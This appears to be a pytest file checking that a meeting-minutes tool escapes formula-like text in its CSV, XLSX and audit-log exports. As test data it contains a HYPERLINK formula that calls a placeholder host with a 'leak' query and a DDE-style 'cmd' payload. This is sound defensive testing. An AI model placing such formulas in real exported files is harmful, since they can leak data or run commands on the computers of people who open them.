"""What fitgap writes for people to open elsewhere: spreadsheet cells that never run as formulas,
Markdown minutes that user text cannot restructure, and output files never overwritten unasked."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from test_minutes import sample_minutes

from fitgap.domain.files.cells import neutralise, starts_formula
from fitgap.domain.meetings.minutes import Minutes, MinutesTown, to_csv, to_xlsx
from fitgap.store import audit as audit_queries
from fitgap.store.db import Database

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak","開く")'


# --- formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1", "\r=1", "\n=1"],
)
@pytest.mark.parametrize("blanks", ["", " ", "\u3000"])
def test_formula_like_text_is_neutralised(text: str, blanks: str) -> None:
    text = blanks + text
    assert starts_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["普通の文", "1,200円", "", "   ", "0010001", 3, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def town_named_like_a_formula() -> Minutes:
    minutes = sample_minutes()
    towns = (MinutesTown("ishii", HYPERLINK), *minutes.towns[1:])
    return replace(minutes, towns=towns)


def test_a_town_named_like_a_formula_is_text_in_the_minutes_csv_header() -> None:
    minutes = town_named_like_a_formula()
    text = to_csv(minutes).decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert f"'{HYPERLINK}の判定" in header
    assert not any(starts_formula(cell) for cell in header)


def test_a_town_named_like_a_formula_is_text_in_the_minutes_workbook() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(town_named_like_a_formula())))
    header = book["決定事項"][1]
    assert all(cell.data_type != "f" for cell in header)
    assert f"'{HYPERLINK}の判定" in [cell.value for cell in header]


def test_full_width_formula_starts_are_text_in_the_minutes() -> None:
    minutes = sample_minutes()
    decision = replace(minutes.meetings[0].decisions[1], summary="＝cmd|' /C calc'!A0")
    meeting = replace(minutes.meetings[0], decisions=(minutes.meetings[0].decisions[0], decision))
    minutes = replace(minutes, meetings=(meeting,))
    rows = list(csv.reader(io.StringIO(to_csv(minutes).decode("utf-8-sig"), newline="")))
    assert rows[2][7] == "'＝cmd|' /C calc'!A0"
    sheet = load_workbook(io.BytesIO(to_xlsx(minutes)))["決定事項"]
    assert sheet.cell(row=3, column=8).value == "'＝cmd|' /C calc'!A0"


def test_the_audit_csv_neutralises_targets_and_addresses(db: Database) -> None:
    with db.write() as session:
        audit_queries.append(
            session=session,
            actor=audit_queries.Actor("someone", "=1+1"),
            action="test.event",
            target="＠SUM(A1)",
        )
    with db.session() as session:
        data = audit_queries.to_csv(session=session, filters=audit_queries.AuditFilter())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[-1][3] == "'=1+1" and rows[-1][5] == "'＠SUM(A1)"
